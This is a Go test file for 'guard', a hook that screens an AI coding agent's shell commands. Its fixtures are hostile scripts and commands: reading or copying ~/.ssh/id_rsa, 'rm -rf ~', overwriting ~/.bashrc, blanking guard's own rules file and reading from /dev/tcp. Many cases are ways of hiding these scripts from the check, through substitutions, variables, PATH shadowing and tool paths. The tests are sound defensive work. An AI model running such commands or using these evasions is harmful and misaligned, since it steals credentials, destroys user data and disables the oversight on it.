package hook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/agent"
	"github.com/guardhq/guard/internal/policy"
	"github.com/guardhq/guard/internal/shell"
	"github.com/guardhq/guard/internal/shell/word"
)

// scriptWorld makes a home directory and a project with files in it, and
// points HOME and GUARD_HOME at them.
func scriptWorld(t *testing.T, files map[string]string) (homeDir, proj string) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	homeDir, proj = filepath.Join(root, "home"), filepath.Join(root, "proj")
	for _, d := range []string{filepath.Join(homeDir, ".guard"), filepath.Join(homeDir, ".ssh"), proj} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", homeDir)
	t.Setenv("GUARD_HOME", filepath.Join(homeDir, ".guard"))
	for name, text := range files {
		p := filepath.Join(proj, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(strings.ReplaceAll(text, "$HOMEDIR", homeDir)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return homeDir, proj
}

func bashPayload(t *testing.T, cwd, cmd string) string {
	t.Helper()
	b, err := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "tool_name": "Bash", "cwd": cwd,
		"tool_input": map[string]string{"command": cmd}})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestRunScriptFiles: a script or program the command runs is read from
// the project and checked as what it does; the reason names the file, the
// record neither its name nor its text.
func TestRunScriptFiles(t *testing.T) {
	big := "true\n" + strings.Repeat("# padding\n", shell.MaxScriptBytes/10+1) + "cat ~/.ssh/id_rsa\n"
	_, proj := scriptWorld(t, map[string]string{
		"leak.sh":        "#!/bin/sh\necho start\ncat ~/.ssh/id_rsa\n",
		"wipe.sh":        "rm -rf ~\n",
		"ok.sh":          "#!/usr/bin/env bash\nset -e\ngo test ./...\necho done\n",
		"scripts/env.sh": "KEYDIR=~/.ssh\n",
		"tool.py":        "#!/usr/bin/env python3\nimport json\nopen('$HOMEDIR/.guard/rules.json', 'w').write('{}')\n",
		"app.py":         "from dotenv import load_dotenv\nload_dotenv('.env')\nprint(open('data.json').read())\n",
		"big.sh":         big,
		"dir/keep":       "",
	})
	if err := os.Symlink(filepath.Join(proj, "leak.sh"), filepath.Join(proj, "link.sh")); err != nil {
		t.Fatal(err)
	}
	for _, sh := range []string{"/bin/bash", "/bin/zsh"} {
		t.Setenv("SHELL", sh) // read when the policy loads, and by the hook
		checkScriptFiles(t, realPolicy(t, ""), proj)
	}
}

func checkScriptFiles(t *testing.T, p *policy.Policy, proj string) {
	t.Helper()
	for _, tc := range []struct {
		cmd, rule, reason string // rule "" for allowed
	}{
		{"bash leak.sh", "blocked_path", "guard read what the command runs: 'leak.sh'"},
		{"./leak.sh", "blocked_path", "'./leak.sh'"},
		{"sh < leak.sh", "blocked_path", "'leak.sh'"},
		{"cd scripts && sh ../leak.sh", "blocked_path", "'scripts/../leak.sh'"},
		{"bash link.sh", "blocked_path", "'link.sh'"},
		{". scripts/env.sh && cat $KEYDIR/id_rsa", "blocked_path", "'scripts/env.sh'"},
		{"bash wipe.sh", "dangerous_command", "(runs 'rm -rf ~')"},
		{"python3 tool.py", "blocked_path", "'tool.py'"},
		{"./tool.py", "blocked_path", "'./tool.py'"},
		{"bash big.sh", "unparsable_command", "larger than 256 KiB"},
		{"bash ok.sh", "", ""},
		{"./ok.sh && python3 app.py", "", ""},
		{"bash missing.sh", "", ""},
		{"source /dev/null", "", ""},
		{"bash le?k.sh", "blocked_path", "'le?k.sh'"},
		{"bash [lw]*.sh", "unparsable_command", "cannot read"},
		{"bash /dev/fd/3 3< leak.sh", "unparsable_command", "cannot read"},
		{"python3 < /dev/tcp/example.com/80", "unparsable_command", "cannot read"},
		{"bash /dev/stdin < leak.sh", "blocked_path", ""},
		{"source /dev/nothing-here", "", ""},
		{"bash dir", "", ""},
	} {
		rec, ok := checkRule(t, p, proj, tc.cmd, tc.rule, tc.reason)
		if ok && (strings.Contains(rec.Reason, ".sh") || strings.Contains(rec.Reason, ".py") || strings.Contains(rec.Reason, "id_rsa")) {
			t.Errorf("%q: the record names a file: %q", tc.cmd, rec.Reason)
		}
	}
}

// TestSubstNamedScript: a word that is one command substitution is the
// name its commands print, not a file's text (FINDINGS48b F2): sh
// "$(echo x.sh)" runs x.sh; only <(…) is a file whose text they print.
func TestSubstNamedScript(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{
		"leak.sh": "cat ~/.ssh/id_rsa\n",
		"leak.py": "import os\nprint(open(os.path.expanduser('~/.ss' + 'h/id_rsa')).read())\n",
		"ok.sh":   "ls\n",
	})
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct{ cmd, rule string }{
			{`sh "$(echo leak.sh)"`, "blocked_path"},
			{`bash "$(printf %s leak.sh)"`, "blocked_path"},
			{`sh $(basename /x/leak.sh)`, "blocked_path"},
			{`. "$(echo leak.sh)"`, "blocked_path"},
			{`source $(echo leak.sh)`, "blocked_path"},
			{`env sh "$(echo leak.sh)"`, "blocked_path"},
			{`python3 "$(echo leak.py)"`, "blocked_path"},
			{`sh < "$(echo leak.sh)"`, "blocked_path"},
			{`sh <(cat leak.sh)`, "blocked_path"},
			{`sh "$(echo ok.sh)"`, ""},
			{`sh < "$(echo ok.sh)"`, ""},
			{`sh <(echo ls)`, ""},
			{`source <(echo ls)`, ""},
			{`python3 <(echo 'print(1)')`, ""},
			{`bash <<< "$(echo ls)"`, ""},
		} {
			checkRule(t, p, proj, tc.cmd, tc.rule, "")
		}
	}
}

// TestPickedDirScript: a file that runs below a directory a harmless
// producer picks among others (ls, find, mktemp) is one guard cannot tell
// (FINDINGS48b F4); so is one below a tool's place guard cannot resolve
// (npm root -g: FINDINGS49b G6).
func TestPickedDirScript(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{
		"d/p.sh":     "cat ~/.ssh/id_rsa\n",
		"d/Makefile": "all:\n\t@cat ~/.ssh/id_rsa\n",
	})
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct{ cmd, rule string }{
			{`sh "$(ls -d d* | head -1)/p.sh"`, "unparsable_command"},
			{`x=$(ls -d d* | head -1); sh "$x/p.sh"`, "unparsable_command"},
			{`cd "$(ls -d */ | head -1)" && sh p.sh`, "unparsable_command"},
			{`sh "$(find . -maxdepth 1 -type d -name d)/p.sh"`, "unparsable_command"},
			{`. "$(ls -d d*)/p.sh"`, "unparsable_command"},
			{`make -C "$(ls -d d*)"`, "unparsable_command"},
			{`cd "$(ls -d d*)" && make`, "unparsable_command"},
			{`sh "$(mktemp -d)/x.sh"`, "unparsable_command"},
			{`"$(go env GOPATH)/bin/golangci-lint" run`, ""},
			{`node "$(npm root -g)/x/cli.js"`, "unparsable_command"},
			{`cat "$(npm root -g)/x/package.json"`, ""},
			{`docker exec app sh /app/run.sh`, ""},
			{`cd "$(mktemp -d)" && ls`, ""},
			{`ls -d d* | head -1`, ""},
		} {
			checkRule(t, p, proj, tc.cmd, tc.rule, "")
		}
	}
}

// unsetEnv unsets name for the test (restored after it).
func unsetEnv(t *testing.T, name string) {
	t.Setenv(name, "")
	os.Unsetenv(name)
}

// TestToolPlaceScript: a tool's place is a directory the agent writes (npm
// prefix is the project, npm root its node_modules, go env GOPATH ~/go):
// guard resolves it as the tool does and reads the file that runs there;
// a place it cannot resolve, or one `..` climbs out of, is cannot-tell
// (FINDINGS49b G6).
func TestToolPlaceScript(t *testing.T) {
	for _, v := range []string{"GOPATH", "GOENV", "XDG_CONFIG_HOME"} {
		unsetEnv(t, v)
	}
	leak := "cat ~/.ssh/id_rsa > leak.txt\n"
	homeDir, proj := scriptWorld(t, map[string]string{
		"package.json":       `{"scripts":{"build":"tsc"}}`,
		"p.sh":               leak,
		"node_modules/p.sh":  leak,
		"node_modules/ok.sh": "echo ok\n",
	})
	writeFiles(t, homeDir, map[string]string{"go/p.sh": leak, "go/bin/golangci-lint": "\x7fELF\x02\x01\x01\x00"})
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct{ cmd, rule string }{
			{`sh "$(npm prefix)/p.sh"`, "blocked_path"},
			{`sh "$(npm root)/p.sh"`, "blocked_path"},
			{`sh "$(npm root)/../p.sh"`, "blocked_path"},
			{`cd "$(npm root)" && sh p.sh`, "blocked_path"},
			{`. "$(npm root)/p.sh"`, "blocked_path"},
			{`sh "$(go env GOPATH)/p.sh"`, "blocked_path"},
			{`sh "$(go env GOPATH)/../../proj/p.sh"`, "blocked_path"},
			{`sh "$(go env GOCACHE)/../../proj/p.sh"`, "unparsable_command"},
			{`sh "$(brew --prefix)/p.sh"`, "unparsable_command"},
			{`"$(go env GOPATH)/bin/golangci-lint" run`, ""},
			{`"$(go env GOPATH)/bin/staticcheck" ./...`, ""},
			{`sh "$(npm root)/ok.sh"`, ""},
			{`ls "$(npm root)"`, ""},
		} {
			checkRule(t, p, proj, tc.cmd, tc.rule, "")
		}
	}
	// go env -w GOPATH=…: the place is the go env file's, which guard does not read.
	os.MkdirAll(filepath.Join(homeDir, ".config", "go"), 0o755)
	os.WriteFile(filepath.Join(homeDir, ".config", "go", "env"), []byte("GOPATH="+proj+"\n"), 0o644)
	checkRule(t, realPolicy(t, ""), proj, `"$(go env GOPATH)/bin/golangci-lint" run`, "unparsable_command", "")
}

// TestNpmPrefixKinds: npm stops at a package.json file or a node_modules
// directory and walks on past any other entry of those names; guard
// resolves the place as npm does or not at all (FINDINGS50a F4).
func TestNpmPrefixKinds(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{
		"x/q.sh":                "cat ~/.ssh/id_rsa > leak.txt\n",
		"x/node_modules/.keep":  "",
		"x/sub/node_modules":    "a file, not a directory\n",
		"y/package.json/x":      "a directory named package.json\n",
		"y/q.sh":                "cat ~/.ssh/id_rsa > leak.txt\n",
		"z/node_modules/ok.txt": "",
		"z/ok.sh":               "echo ok\n",
	})
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct{ cmd, rule string }{
			{`cd x/sub && sh "$(npm prefix)/q.sh"`, "unparsable_command"},
			{`cd x/sub; . "$(npm prefix)/q.sh"`, "unparsable_command"},
			{`cd y && sh "$(npm prefix)/q.sh"`, "unparsable_command"},
			{`cd x && sh "$(npm prefix)/q.sh"`, "blocked_path"},
			{`cd z && sh "$(npm prefix)/ok.sh"`, ""},
		} {
			checkRule(t, p, proj, tc.cmd, tc.rule, "")
		}
	}
}

// TestEnvNamedScript: a file that runs, named through a variable the
// command's shell inherits, is the file the variable leads to (the walker
// marks it, the reader resolves it); a variable guard's environment does
// not set is cannot-tell as code, not "no file" (the command's shell may
// set it in a start-up file).
func TestEnvNamedScript(t *testing.T) {
	leak := "cat ~/.ssh/id_rsa > leak.txt\n"
	homeDir, proj := scriptWorld(t, map[string]string{"ok.sh": "echo ok\n"})
	writeFiles(t, homeDir, map[string]string{"go/p.sh": leak, "go/x.py": "open('" + homeDir + "/.ssh/id_rsa').read()\n", "go/ok.sh": "echo ok\n"})
	t.Setenv("GOPATH", filepath.Join(homeDir, "go"))
	unsetEnv(t, "GUARD_NOT_SET")
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct{ cmd, rule string }{
			{`sh "$GOPATH/p.sh"`, "blocked_path"},
			{`sh $GOPATH/p.sh`, "blocked_path"},
			{`. "${GOPATH}/p.sh"`, "blocked_path"},
			{`"$GOPATH/p.sh"`, "blocked_path"},
			{`bash -c "sh $GOPATH/p.sh"`, "blocked_path"},
			{`python3 "$GOPATH/x.py"`, "blocked_path"},
			{`sh "${GUARD_NOT_SET:-$GOPATH}/p.sh"`, "blocked_path"},
			{`sh "$GUARD_NOT_SET/p.sh"`, "unparsable_command"},
			{`python3 "$GUARD_NOT_SET/x.py"`, "unparsable_command"},
			{`sh "$GOPATH/ok.sh"`, ""},
			{`sh "$GOPATH/none.sh"`, ""},
			{`sh ok.sh`, ""},
		} {
			checkRule(t, p, proj, tc.cmd, tc.rule, "")
		}
	}
}

// TestDryRunScriptFiles: guard test reads the files a command runs from
// the directory it is given.
func TestDryRunScriptFiles(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{"leak.sh": "cat ~/.ssh/id_rsa\n"})
	p := realPolicy(t, "")
	r, err := DryRun(p, "command", "bash leak.sh", proj)
	if err != nil || r.Verdict != "block" || !strings.Contains(r.Reason, "'leak.sh'") {
		t.Fatalf("%+v %v", r, err)
	}
	if r, err := DryRun(p, "command", "bash leak.sh", filepath.Join(proj, "elsewhere")); err != nil || r.Verdict != "allow" {
		t.Fatalf("elsewhere: %+v %v", r, err)
	}
}

// TestRunFilesResolve: paths as a command names them, resolved as its
// shell will.
func TestRunFilesResolve(t *testing.T) {
	t.Setenv("SCRIPTS", "/srv/scripts")
	f := runFiles{base: "/proj", home: "/home/me"}
	for in, want := range map[string]string{
		"x.sh":                "/proj/x.sh",
		"../x.sh":             "/proj/../x.sh",
		"/abs/x.sh":           "/abs/x.sh",
		"~/x.sh":              "/home/me/x.sh",
		"$HOME/bin/x":         "/home/me/bin/x",
		"${HOME}":             "/home/me",
		"$SCRIPTS/x.sh":       "/srv/scripts/x.sh",
		"$NOT_SET_ANYWHERE/x": "",
		"~other/x":            "",
		// What the walker hands the reader: an inherited variable is
		// marked (word.MarkEnv), resolved as its $NAME.
		word.Mark(word.MarkEnv, "SCRIPTS") + "/x.sh":                  "/srv/scripts/x.sh",
		word.Mark(word.MarkEnvOp, "NOT_SET_ANYWHERE:-/opt") + "/x.sh": "/opt/x.sh",
	} {
		got, ok := f.resolve(in)
		if !ok {
			got = ""
		}
		if got != filepath.FromSlash(want) && !(want == "" && !ok) {
			t.Errorf("resolve(%q) = %q, want %q", in, got, want)
		}
	}
	if _, ok := (runFiles{}).resolve("x.sh"); ok {
		t.Error("a relative path without a directory resolved")
	}
	// The hook reads at most the bound it is asked for.
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "f"), []byte("0123456789"), 0o644)
	r := filesFor(&agent.Call{Cwd: dir}, agent.Options{})
	if data, st := r.ReadFile("f", 4); st != shell.FileTooBig || string(data) != "0123" {
		t.Errorf("bounded read: %q %v", data, st)
	}
	if data, st := r.ReadFile("f", 10); st != shell.FileWhole || string(data) != "0123456789" {
		t.Errorf("whole read: %q %v", data, st)
	}
	if _, st := r.ReadFile("nope", 10); st != shell.FileAbsent {
		t.Errorf("missing file: %v", st)
	}
	if _, st := r.ReadFile("f/x", 10); st != shell.FileAbsent {
		t.Errorf("below a file: %v", st)
	}

	if _, st := r.ReadFile(".", 10); st != shell.FileAbsent {
		t.Errorf("a directory: %v", st)
	}
	// The operating system's files are not the agent's: not read.
	if _, st := r.ReadFile("/etc/profile", 10); st != shell.FileAbsent {
		t.Errorf("a system file: %v", st)
	}
}

// TestPathPrograms: a program run by a bare name is what the shell finds
// first on its PATH (the agent's, or the one the command assigns): a shell
// script there is read and checked, an interpreter's program scanned, a
// compiled program left alone; a program that shadows one of the OS's is
// what runs.
func TestPathPrograms(t *testing.T) {
	homeDir, proj := scriptWorld(t, map[string]string{
		"foo":     "cp x ~/.bashrc\n",
		"notes.x": "cp q ~/.bashrc\n",
	})
	bin := filepath.Join(homeDir, ".local", "bin")
	os.MkdirAll(bin, 0o755)
	for name, text := range map[string]string{
		"leaky":    "#!/bin/sh\ncat ~/.ssh/id_rsa\n",
		"tool":     "#!/usr/bin/env python3\nfrom pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())\n",
		"python3":  "#!/bin/sh\ncp x ~/.bashrc\n",
		"fine":     "#!/bin/sh\necho hello\n",
		"app":      "#!/usr/bin/env python3\nfrom pathlib import Path\nload_dotenv('.env')\nCACHE = Path.home() / '.cache' / 'app'\n",
		"compiled": "\x7fELF\x00\x00cp x ~/.bashrc\n",
	} {
		if err := os.WriteFile(filepath.Join(bin, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(bin, "plain"), []byte("cat ~/.ssh/id_rsa\n"), 0o644) // not executable: not run
	t.Setenv("PATH", bin+string(os.PathListSeparator)+"/usr/bin"+string(os.PathListSeparator)+"/bin")
	p := realPolicy(t, "")
	for _, tc := range []struct {
		cmd, rule, reason string // rule "" for allowed
	}{
		{"leaky", "blocked_path", "guard read what the command runs: '" + filepath.Join(bin, "leaky") + "'"},
		{"tool --flag", "blocked_path", "'~/.ssh/id_rsa'"},
		{"python3 -c 'print(1)'", "blocked_path", "'~/.bashrc'"},
		{"PATH=.:$PATH foo", "blocked_path", "'./foo'"},
		{"export PATH=$PWD:$PATH && foo", "blocked_path", "'~/.bashrc'"},
		{"cd .. && PATH=proj:$PATH foo", "blocked_path", "'~/.bashrc'"},
		{"PATH=$(mktemp -d):$PATH foo", "unparsable_command", "a PATH directory guard cannot tell"},
		{"rg --pre=sh . notes.x", "blocked_path", "'notes.x'"},
		{"rg --pre ./foo PATTERN", "blocked_path", "guard read what the command runs: './foo'"}, // the preprocessor runs on every file
		{"rg --pre=./foo --pre-glob '*.py' PATTERN", "blocked_path", "'./foo'"},
		{"find . -name notes.x -exec sh {} \\;", "unparsable_command", "the files find finds"},
		{"fine && app && compiled", "", ""},
		{"foo", "", ""}, // not on PATH: ./foo does not run
		{"plain", "", ""},
		{"true && ls", "", ""},
	} {
		code, _, stderr, rec := runReal(t, p, bashPayload(t, proj, tc.cmd))
		switch {
		case tc.rule == "" && code != 0:
			t.Errorf("%q: blocked: %s", tc.cmd, stderr)
		case tc.rule != "" && (code != 2 || rec.Rule != tc.rule):
			t.Errorf("%q: code %d, rule %q, want a block by %s: %s", tc.cmd, code, rec.Rule, tc.rule, stderr)
		case !strings.Contains(stderr, tc.reason):
			t.Errorf("%q: reason %q, want %q in it", tc.cmd, stderr, tc.reason)
		}
	}
}

// TestLookPath: the reader finds an executable regular file, in order, and
// resolves the directories as the command names them.
func TestLookPath(t *testing.T) {
	dir := t.TempDir()
	for _, d := range []string{"a", "b", "c"} {
		os.MkdirAll(filepath.Join(dir, d), 0o755)
	}
	os.WriteFile(filepath.Join(dir, "a", "x"), []byte("x"), 0o644) // not executable
	os.WriteFile(filepath.Join(dir, "b", "x"), []byte("x"), 0o755)
	os.WriteFile(filepath.Join(dir, "c", "x"), []byte("x"), 0o755)
	os.MkdirAll(filepath.Join(dir, "a", "d"), 0o755) // a directory named like the program
	f := runFiles{base: dir, home: dir, path: "/p"}
	if f.SearchPath() != "/p" {
		t.Errorf("SearchPath = %q", f.SearchPath())
	}
	for _, tc := range []struct {
		name string
		dirs []string
		want int
	}{
		{"x", []string{"a", "b", "c"}, 1},
		{"x", []string{"~/c", "b"}, 0},
		{"x", []string{"$NOT_SET_ANYWHERE", "c"}, 1},
		{"d", []string{"a"}, -1},
		{"y", []string{"a", "b"}, -1},
	} {
		if got := f.LookPath(tc.name, tc.dirs); got != tc.want {
			t.Errorf("LookPath(%q, %q) = %d, want %d", tc.name, tc.dirs, got, tc.want)
		}
	}
}

// TestInheritedCDPath: cd NAME searches the CDPATH the command's shell
// inherits from the agent: a user's `export CDPATH=.:~` makes
// cd .guard reach guard's directory.
func TestInheritedCDPath(t *testing.T) {
	homeDir, proj := scriptWorld(t, nil)
	p := realPolicy(t, "")
	for _, tc := range []struct {
		cdpath string
		block  bool
	}{
		{"", false},
		{".:" + homeDir, true},
		{"/srv", false},
	} {
		t.Setenv("CDPATH", tc.cdpath)
		code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, "cd .guard && echo x > notes.txt"))
		if (code == 2) != tc.block {
			t.Errorf("CDPATH=%q: exit %d, want a block %v: %s", tc.cdpath, code, tc.block, stderr)
		}
	}
}

// TestOtherWorkspaceRoots: agent B without a cwd, with several workspace
// roots: a command's relative paths are checked under each, since the
// shell may run in any.
func TestOtherWorkspaceRoots(t *testing.T) {
	homeDir, proj := scriptWorld(t, nil)
	p := realPolicy(t, "")
	for _, tc := range []struct {
		roots string
		block bool
	}{
		{`["` + proj + `"]`, false},
		{`["` + proj + `","` + homeDir + `"]`, true},
		{`["` + homeDir + `","` + proj + `"]`, true},
	} {
		payload := `{"hookEventName":"beforeShellExecution","command":"echo x >> .bashrc","workspace_roots":` + tc.roots + `}`
		code, stdout, _, _ := runReal(t, p, payload)
		if blocked := strings.Contains(stdout, "deny") || code == 2; blocked != tc.block {
			t.Errorf("roots %s: exit %d %s, want a block %v", tc.roots, code, stdout, tc.block)
		}
	}
}

// TestReadFileAbsentMemo: a call's reader remembers a path it found nothing
// at (the disk does not change while guard checks a command that has not
// run); a reader without memory looks again.
func TestReadFileAbsentMemo(t *testing.T) {
	dir := t.TempDir()
	f := runFiles{base: dir, home: dir, stats: &statMemo{}}
	if _, st := f.ReadFile("go.mod", 100); st != shell.FileAbsent {
		t.Fatalf("missing go.mod: status %v, want absent", st)
	}
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, st := f.ReadFile("go.mod", 100); st != shell.FileAbsent {
		t.Errorf("go.mod asked again in the same call: status %v, want the remembered absent", st)
	}
	if data, st := (runFiles{base: dir, home: dir}).ReadFile("go.mod", 100); st != shell.FileWhole || string(data) != "module x\n" {
		t.Errorf("a reader without memory: %q %v, want the file", data, st)
	}
}

func FuzzHasDotDot(f *testing.F) {
	for _, s := range []string{"/usr/../tmp", "..", "a/..", "../a", "a..b", "/a/...", "/a/..b/c", "...", "/usr/lib"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		if got, want := hasDotDot(p), slices.Contains(strings.Split(p, "/"), ".."); got != want {
			t.Fatalf("hasDotDot(%q) = %v, want %v", p, got, want)
		}
	})
}

// TestEnvNamedDirs: a directory the command changes to, a name's directory
// part or a PATH element through an inherited variable: resolved as bash
// does where guard can (${V:=w}, ${V:-w}, ${PWD:?}, an empty PATH element
// is the current directory), cannot-tell where it cannot; never "no file"
// (FINDINGS51a F1, F7, F9).
func TestEnvNamedDirs(t *testing.T) {
	leak := "cat ~/.ssh/id_rsa > leak.txt\n"
	_, proj := scriptWorld(t, map[string]string{"tools/p.sh": leak, "p.sh": leak, "Makefile": "all:\n\tcat ~/.ssh/id_rsa\n", "sub/ok.sh": "echo ok\n"})
	t.Setenv("TOOLS", filepath.Join(proj, "tools"))
	unsetEnv(t, "GUARD_NOT_SET")
	for _, mode := range []string{"", `{"bash":{"match":"commands"}}`} {
		p := realPolicy(t, mode)
		for _, tc := range []struct {
			cmd   string
			block bool
		}{
			{`cd "$GUARD_NOT_SET" && sh tools/p.sh`, true},
			{`cd "${PWD:?}" && sh tools/p.sh`, true},
			{`cd "${PWD:-.}" && . tools/p.sh`, true},
			{`cd "$TOOLS" && sh p.sh`, true},
			{`cd "${PWD:?}" && make`, true},
			{`cd "$GUARD_NOT_SET" && make`, true},
			{`sh "${PWD:?}/tools/p.sh"`, true},
			{`sh "${PWD:-x}/tools/p.sh"`, true},
			{`sh "${PWD:+.}/tools/p.sh"`, true},
			{`sh "${GUARD_NOT_SET:=tools}/p.sh"`, true},
			{`sh "${GUARD_NOT_SET=tools}/p.sh"`, true},
			{`: "${GUARD_NOT_SET:=tools}"; sh "$GUARD_NOT_SET/p.sh"`, true},
			{`source "${GUARD_NOT_SET:=tools}/p.sh"`, true},
			{`PATH="$GUARD_NOT_SET:$PATH" p.sh`, true},
			{`PATH="${GUARD_NOT_SET:-}:$PATH" p.sh`, true},
			{`cd sub && PATH="${TOOLS:-x}:$PATH" p.sh`, true},
			{`cd sub && PATH="${TOOLS:=x}:$PATH" p.sh`, true},
			{`cd "$PWD" && sh sub/ok.sh`, false},
			{`cd "${PWD:?}/sub" && sh ok.sh`, false},
			{`sh "${GUARD_NOT_SET:=sub}/ok.sh"`, false},
			{`PATH="$TOOLS:$PATH" ok.sh`, false},
			{`cd sub && PATH="${GUARD_NOT_SET:-$HOME}:$PATH" ok.sh`, false},
		} {
			checkBlock(t, p, proj, tc.cmd, tc.block, "")
		}
	}
}
